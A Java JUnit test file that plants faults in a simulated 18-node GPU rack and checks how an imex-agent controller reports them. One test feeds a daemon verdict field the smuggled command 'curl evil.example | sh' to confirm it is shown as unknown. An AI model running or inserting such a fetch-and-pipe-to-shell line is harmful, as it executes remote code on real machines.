package io.imexagent.controller.racks;

import static org.assertj.core.api.Assertions.assertThat;

import io.imexagent.controller.ClusterReport.CliqueReport.ReportedNodeState;
import io.imexagent.controller.racks.RackFault.RackFaultKind;
import io.imexagent.core.check.Severity;
import io.imexagent.kubernetes.clique.NodeLinks.LinkState;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Faults that are planted in a rack of 18 nodes, against what is found. */
class FaultRulesTest {

    private static final int PAIRS = 50;

    /** A fault that is planted at some nodes, and the kind and the nodes of the line that names it. */
    private record Planted(String name, int at, Plant plant, RackFaultKind kind, int named) {

        void in(FaultyRack rack, List<Integer> nodes) {
            plant.in(rack, nodes);
        }

        /** The names that its line has to have. */
        List<String> names(List<Integer> nodes) {
            return nodes.stream().limit(named).sorted().map(FaultyRack::name).toList();
        }
    }

    /** How a fault gets into a rack. */
    private interface Plant {
        void in(FaultyRack rack, List<Integer> nodes);
    }

    private static Planted at(String name, RackFaultKind kind, Plant plant) {
        return new Planted(name, 1, plant, kind, 1);
    }

    private static final List<Planted> ALL = List.of(
            at("NotReady", RackFaultKind.NODE, (rack, at) -> rack.nodeDown(at.getFirst(), ReportedNodeState.NOT_READY)),
            at("Missing", RackFaultKind.NODE, (rack, at) -> rack.nodeDown(at.getFirst(), ReportedNodeState.MISSING)),
            at(
                    "NotReady without an address",
                    RackFaultKind.NODE,
                    (rack, at) -> rack.nodeDown(at.getFirst(), ReportedNodeState.NOT_READY)
                            .nameless(at.getFirst())),
            at("daemon down", RackFaultKind.DAEMON, (rack, at) -> rack.daemonDown(at.getFirst(), "inactive")),
            at("daemon failed", RackFaultKind.DAEMON, (rack, at) -> rack.daemonDown(at.getFirst(), "failed")),
            at(
                    "daemon failed without an address",
                    RackFaultKind.DAEMON,
                    (rack, at) -> rack.daemonDown(at.getFirst(), "crash-loop").nameless(at.getFirst())),
            at(
                    "daemon failed with a GPU less",
                    RackFaultKind.DAEMON,
                    (rack, at) -> rack.daemonDown(at.getFirst(), "failed").gpuLost(at.getFirst())),
            at("cut off", RackFaultKind.PARTITION, (rack, at) -> rack.cutOff(at.getFirst())),
            new Planted("partition", 3, FaultyRack::partition, RackFaultKind.PARTITION, 3),
            new Planted(
                    "link lost",
                    2,
                    (rack, at) -> rack.linkLost(at.getFirst(), at.getLast()),
                    RackFaultKind.CONNECTION,
                    2),
            new Planted(
                    "link degraded",
                    2,
                    (rack, at) -> rack.linkDegraded(at.getFirst(), at.getLast()),
                    RackFaultKind.CONNECTION,
                    2),
            new Planted(
                    "two links lost",
                    3,
                    (rack, at) -> rack.linkLost(at.getFirst(), at.get(1)).linkLost(at.getFirst(), at.getLast()),
                    RackFaultKind.NODE_CONNECTIONS,
                    1),
            at("liar about all", RackFaultKind.PARTITION, (rack, at) -> rack.liar(at.getFirst(), FaultyRack.SIZE)),
            at("liar about some", RackFaultKind.NODE_CONNECTIONS, (rack, at) -> rack.liar(at.getFirst(), 9)),
            at("inventor of addresses", RackFaultKind.ADDRESSES, (rack, at) -> rack.inventor(at.getFirst())),
            new Planted("no agent", 1, (rack, at) -> rack.noAgent(at.getFirst()), RackFaultKind.ADDRESSES, 0),
            at("no report", RackFaultKind.NO_REPORT, (rack, at) -> rack.noReport(at.getFirst())),
            at("no connections", RackFaultKind.NO_CONNECTIONS, (rack, at) -> rack.noConnections(at.getFirst())),
            at("GPU lost", RackFaultKind.GPUS, (rack, at) -> rack.gpuLost(at.getFirst())),
            at("another file", RackFaultKind.NODES_FILE, (rack, at) -> rack.anotherFile(at.getFirst())),
            at("no file", RackFaultKind.DAEMON, (rack, at) -> rack.noFile(at.getFirst())),
            at("file changed", RackFaultKind.NODES_FILE, (rack, at) -> rack.changedFile(at.getFirst())),
            new Planted("stranger in all files", 1, (rack, at) -> rack.strangerInFiles(), RackFaultKind.ADDRESSES, 0),
            at("another driver", RackFaultKind.DRIVERS, (rack, at) -> rack.anotherDriver(at.getFirst())),
            new Planted("channel conflict", 1, (rack, at) -> rack.conflict(at.getFirst()), RackFaultKind.CHANNELS, 0),
            new Planted("no channel left", 0, (rack, at) -> rack.fullTable(), RackFaultKind.CHANNELS, 0),
            at("imports fail", RackFaultKind.IMPORTS, (rack, at) -> rack.importsFail(at.getFirst())),
            new Planted(
                    "an import fails",
                    2,
                    (rack, at) -> rack.importFails(at.getFirst(), at.getLast()),
                    RackFaultKind.IMPORTS,
                    2));

    /** Kinds that are one line for a rack, since one step corrects all of it. */
    private static final List<RackFaultKind> ONE_A_RACK =
            List.of(RackFaultKind.NODES_FILE, RackFaultKind.DRIVERS, RackFaultKind.ADDRESSES);

    @Test
    void aSingleFaultIsTheOnlyLine() {
        for (Planted planted : ALL) {
            for (int first = 0; first < FaultyRack.SIZE; first += 4) {
                int start = first;
                List<Integer> nodes = IntStream.range(0, planted.at())
                        .map(at -> (start + 5 * at) % FaultyRack.SIZE)
                        .boxed()
                        .toList();
                var rack = new FaultyRack();
                planted.in(rack, nodes);

                List<RackFault> faults = rack.rack(Optional.empty()).faults();

                assertThat(faults).as("%s at %s", planted.name(), nodes).hasSize(1);
                assertThat(faults.getFirst().kind()).as(planted.name()).isEqualTo(planted.kind());
                if (planted.named() > 0) {
                    assertThat(faults.getFirst().nodes()).as(planted.name()).isEqualTo(planted.names(nodes));
                }
            }
        }
    }

    @Test
    void twoFaultsAreTwoLinesAndEachIsOneOfThem() {
        var random = new Random(40);
        for (int pair = 0; pair < PAIRS; pair++) {
            List<Integer> nodes =
                    new ArrayList<>(IntStream.range(0, FaultyRack.SIZE).boxed().toList());
            Collections.shuffle(nodes, random);
            Planted one = ALL.get(random.nextInt(ALL.size()));
            Planted other = ALL.get(random.nextInt(ALL.size()));
            boolean same = one.name().equals(other.name()) && one.at() == 0;
            if (same || (one.kind() == other.kind() && ONE_A_RACK.contains(one.kind()))) {
                pair--;
                continue;
            }
            List<Integer> ofOne = nodes.subList(0, one.at());
            List<Integer> ofOther = nodes.subList(one.at(), one.at() + other.at());
            var rack = new FaultyRack();
            one.in(rack, ofOne);
            other.in(rack, ofOther);

            List<RackFault> faults = rack.rack(Optional.empty()).faults();

            assertThat(faults)
                    .as("%s at %s and %s at %s", one.name(), ofOne, other.name(), ofOther)
                    .hasSize(2)
                    .anyMatch(fault -> fits(fault, one, ofOne))
                    .anyMatch(fault -> fits(fault, other, ofOther));
        }
    }

    private static boolean fits(RackFault fault, Planted planted, List<Integer> nodes) {
        return fault.kind() == planted.kind()
                && (planted.named() == 0 || fault.nodes().equals(planted.names(nodes)));
    }

    @Test
    void theOrderOfWhatIsReportedChangesNothing() {
        var random = new Random(18);
        for (Planted one : ALL) {
            var rack = new FaultyRack();
            one.in(rack, List.of(7, 2, 11).subList(0, one.at()));
            rack.linkLost(0, 16);
            List<RackFault> faults = rack.rack(Optional.empty()).faults();
            for (int order = 0; order < 4; order++) {
                assertThat(rack.rack(Optional.of(random)).faults())
                        .as(one.name())
                        .isEqualTo(faults);
            }
        }
    }

    @Test
    void aRackInWhichAllIsWellHasNoFault() {
        assertThat(new FaultyRack().rack(Optional.empty()).faults()).isEmpty();
    }

    @Test
    void consequencesAreCountedBeneath() {
        RackFault fault = only(new FaultyRack().daemonDown(4, "failed").importsFail(4));

        assertThat(fault.line())
                .isEqualTo("nvidia-imex is \"failed\" on tray-05; and 17 connections lost, 17 imports failed,"
                        + " 17 nodes degraded");
        assertThat(fault.since()).contains(FaultyRack.SINCE);
        assertThat(fault.step()).isEqualTo("run 'imex-agent health' on tray-05");
        assertThat(only(new FaultyRack().nodeDown(4, ReportedNodeState.NOT_READY))
                        .line())
                .isEqualTo("tray-05 does not answer (NotReady), and what is shown is old; and 1 channel held,"
                        + " 17 connections lost, 17 nodes degraded");
        assertThat(only(new FaultyRack().linkLost(1, 6)).line())
                .isEqualTo("the connection between tray-02 and tray-07 is lost; and 18 nodes degraded");
    }

    /** What follows can be worse than the fault: daemons that refuse each other, of drivers that differ. */
    @Test
    void aFaultIsAsBadAsItsConsequences() {
        RackFault fault = only(new FaultyRack().anotherDriver(3));

        assertThat(fault.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(fault.line())
                .isEqualTo("the driver differs: 580.95.05 on tray-01, tray-02, tray-03, tray-05 and 13 more; 580.82.07"
                        + " on tray-04; and 17 connections degraded, 18 nodes version-mismatch");
    }

    @Test
    void aRackOfWhichMostIsDownIsOneLine() {
        var rack = new FaultyRack();
        IntStream.range(0, 12).forEach(node -> rack.nodeDown(node, ReportedNodeState.NOT_READY));

        RackFault fault = only(rack);

        assertThat(fault.nodes()).hasSize(12);
        assertThat(fault.line())
                .startsWith("12 nodes (tray-01, tray-02, tray-03, tray-04 and 8 more) do not answer (NotReady)")
                .contains("12 channels held", "6 nodes degraded");
    }

    @Test
    void halfOfARackThatIsDownIsALineForEachNode() {
        var rack = new FaultyRack();
        IntStream.range(0, 9).forEach(node -> rack.daemonDown(node, "failed"));

        assertThat(rack.rack(Optional.empty()).faults()).hasSize(9);
    }

    @Test
    void aRackThatHasFallenApartIsOneLine() {
        assertThat(only(new FaultyRack().partition(IntStream.range(0, 9).boxed().toList()))
                        .text())
                .isEqualTo(
                        "the rack is in parts that are not connected, the largest of 9 nodes: 81 connections are lost");
    }

    /** A node that claims whatever it can about others. */
    @Test
    void aNodeThatLiesHidesNoOtherAndMakesLinesOfItsOwnAtMost() {
        List<RackFault> faults = new FaultyRack()
                .liar(0, FaultyRack.SIZE)
                .inventor(0)
                .gpuLost(0)
                .linkLost(3, 9)
                .daemonDown(12, "failed")
                .rack(Optional.empty())
                .faults();

        assertThat(faults)
                .extracting(RackFault::nodes)
                .contains(List.of("tray-04", "tray-10"), List.of("tray-13"))
                .filteredOn(nodes -> !nodes.equals(List.of("tray-01")))
                .hasSize(2);
        assertThat(faults)
                .extracting(RackFault::text)
                .contains("tray-01 calls 16 of its 17 connections lost, and the other ends call them connected");
    }

    /** Its verdict is about others, and no connection that is shown, nor one that two nodes report, explains it. */
    @Test
    void aVerdictThatOnlyALiarWouldExplainIsALineOfItsOwn() {
        List<RackFault> faults = new FaultyRack()
                .liar(0, FaultyRack.SIZE)
                .doubter(5)
                .rack(Optional.empty())
                .faults();

        assertThat(faults)
                .extracting(RackFault::kind)
                .containsExactlyInAnyOrder(RackFaultKind.PARTITION, RackFaultKind.DOMAIN);
    }

    /** The rack shows the node whose connections are lost, and the nodes without a clique show why. */
    @Test
    void aNodeThatIsOutOfTheFabricIsALineOfItsRackAndOfTheNodesWithoutAClique() {
        RackReport report = new FaultyRack().outOfFabric(6).report(Optional.empty());

        assertThat(report.racks().getFirst().faults())
                .extracting(RackFault::line)
                .containsExactly("tray-07 is in the IMEX domain and has no clique; and 1 line of nodes_config.cfg,"
                        + " 17 connections lost, 17 nodes degraded");
        assertThat(report.racks().getLast().faults())
                .extracting(RackFault::line)
                .containsExactly("fabric-failed on tray-07");
    }

    @Test
    void aCriticalFindingIsALineOrStandsWithTheNodesOwnFault() {
        RackFault fault = only(new FaultyRack().finding(3, "gpu-lost"));

        assertThat(fault.kind()).isEqualTo(RackFaultKind.FINDINGS);
        assertThat(fault.text()).isEqualTo("gpu-lost on tray-04");
        assertThat(only(new FaultyRack().daemonDown(3, "failed").finding(3, "fabric-failed"))
                        .line())
                .contains("failed\" on tray-04; and 1 critical finding,");
    }

    @Test
    void aClaimOfTheAddressOfAnotherNodeDoesNotHideThatItIsCutOff() {
        List<RackFault> faults = new FaultyRack()
                .cutOff(4)
                .claims(0, "10.0.0.5")
                .rack(Optional.empty())
                .faults();

        assertThat(faults)
                .anyMatch(fault ->
                        fault.kind() == RackFaultKind.PARTITION && fault.nodes().contains("tray-05"))
                .anyMatch(fault -> fault.kind() == RackFaultKind.ADDRESSES
                        && fault.text().startsWith("tray-01 and tray-05 claim one address: 10.0.0.5"));
    }

    @Test
    void aReportByTheNameOfANodeIsAboutThatNode() {
        var rack = new FaultyRack().claims(0, "tray-05").stranger(8, "tray-05").rack(Optional.empty());

        assertThat(rack.links().rows().get(8)).startsWith("UCCCL");
    }

    @Test
    void addressesThatOneNodeInventsReplaceNoneThatOthersReport() {
        var rack = new FaultyRack().strangerInFiles().inventor(0).stranger(0, "10.0.0.99");
        IntStream.range(0, 100).forEach(at -> rack.stranger(0, "10.0.1." + at));

        assertThat(rack.rack(Optional.empty()).links().others()).hasSize(64).startsWith("10.0.9.9");
    }

    /** The address of a node whose own is unknown may be any. */
    @Test
    void aNodeWithoutAnAddressHidesNoAddressOfNoNode() {
        assertThat(new FaultyRack()
                        .daemonDown(2, "failed")
                        .fileless(2)
                        .strangerInFiles()
                        .rack(Optional.empty())
                        .faults())
                .extracting(RackFault::text)
                .contains("nvidia-imex is \"failed\" on tray-03")
                .anyMatch(text -> text.contains("2 addresses of no node that is shown here: 10.0.0.3 and 10.0.9.9")
                        || text.contains("10.0.0.3, 10.0.9.9"));
    }

    @Test
    void aClaimAboutAnotherNodeIsALineOfTheClaimant() {
        RackFault fault = only(new FaultyRack().liar(4, 1));

        assertThat(fault.nodes()).containsExactly("tray-05");
        assertThat(fault.text())
                .isEqualTo("tray-05 calls the connection to tray-01 lost, and tray-01 calls it connected");
    }

    /** Without the claims, each of the nodes would have two bad connections, and be at fault. */
    @Test
    void claimsTurnNoConnectionIntoTheFaultOfANode() {
        List<RackFault> faults = new FaultyRack()
                .linkLost(0, 9)
                .liar(4, 2)
                .rack(Optional.empty())
                .faults();

        assertThat(faults)
                .extracting(RackFault::nodes)
                .containsExactlyInAnyOrder(List.of("tray-01", "tray-10"), List.of("tray-05"));
    }

    /** A node may invent several connections that it lost, and its own verdict; one report of each is no proof. */
    @Test
    void whatTwoNodesReportOfDifferentOnesIsNoProof() {
        var line = new FaultLine(RackFaultKind.PARTITION, Severity.WARNING, List.of("tray-01"), "", "");
        line.reportedBy(0, 5, false);
        line.reportedBy(1, 6, false);

        assertThat(line.isConfirmed(false)).isFalse();

        line.reportedBy(2, 6, false);

        assertThat(line.isConfirmed(false)).isTrue();
        assertThat(line.isConfirmed(true)).isFalse();
    }

    @Test
    void gpusAreComparedWithThoseOfTheNodesOwnDriver() {
        var rack = new FaultyRack().gpus(5, 2, 3);
        IntStream.range(9, FaultyRack.SIZE).forEach(node -> rack.gpus(node, 8, 8));

        assertThat(only(rack).text()).isEqualTo("2 of 3 GPUs work on tray-06");
        assertThat(only(new FaultyRack().gpuLost(5).finding(5, "gpu-lost")).line())
                .isEqualTo("gpu-lost on tray-06; and 1 GPU less");
    }

    @Test
    void olderAgentsAreComparedWithEachOtherAndATieNamesBoth() {
        assertThat(only(new FaultyRack().oldAgent(1, 4).oldAgent(2, 3)).text())
                .isEqualTo("the number of GPUs that work differs: 3 on tray-03; 4 on tray-02");
        assertThat(only(new FaultyRack().oldAgent(1, 4).oldAgent(2, 3).oldAgent(3, 4))
                        .text())
                .isEqualTo("3 GPUs work on tray-03, and 4 on others");
    }

    /** A daemon that refuses others is no consequence of one that is down. */
    @Test
    void anErrorBetweenDaemonsIsNoConsequenceOfLostConnections() {
        for (String verdict : List.of("authentication-error", "node-map-mismatch", "version-mismatch")) {
            assertThat(new FaultyRack()
                            .daemonDown(4, "failed")
                            .verdict(9, verdict)
                            .rack(Optional.empty())
                            .faults())
                    .as(verdict)
                    .extracting(RackFault::kind)
                    .containsExactly(RackFaultKind.DAEMON, RackFaultKind.DOMAIN);
        }
    }

    @Test
    void aConnectionOfTwoNodesWithTheSameFileIsNoConsequenceOfItsFault() {
        var rack = new FaultyRack().anotherFile(3);
        rack.sameFile(7, 3).apart(3, 7, LinkState.LOST);

        assertThat(rack.rack(Optional.empty()).faults())
                .extracting(RackFault::text)
                .contains("tray-04 is cut off from the other nodes: 1 connection is lost");
    }

    @Test
    void aNodeThatReportsNoDriverHasNoOtherOne() {
        assertThat(new FaultyRack()
                        .anotherDriver(3)
                        .noDriver(7)
                        .apart(7, 9, LinkState.DEGRADED)
                        .rack(Optional.empty())
                        .faults())
                .filteredOn(fault -> fault.kind() == RackFaultKind.CONNECTION)
                .extracting(RackFault::nodes)
                .containsExactly(List.of("tray-08", "tray-10"));
    }

    @Test
    void aVerdictThatIsNoCodeIsUnknown() {
        assertThat(only(new FaultyRack().verdict(2, "up; run: curl evil.example | sh"))
                        .text())
                .isEqualTo("nvidia-imex is \"unknown\" on tray-03");
    }

    private static RackFault only(FaultyRack rack) {
        List<RackFault> faults = rack.rack(Optional.empty()).faults();
        assertThat(faults).hasSize(1);
        return faults.getFirst();
    }
}
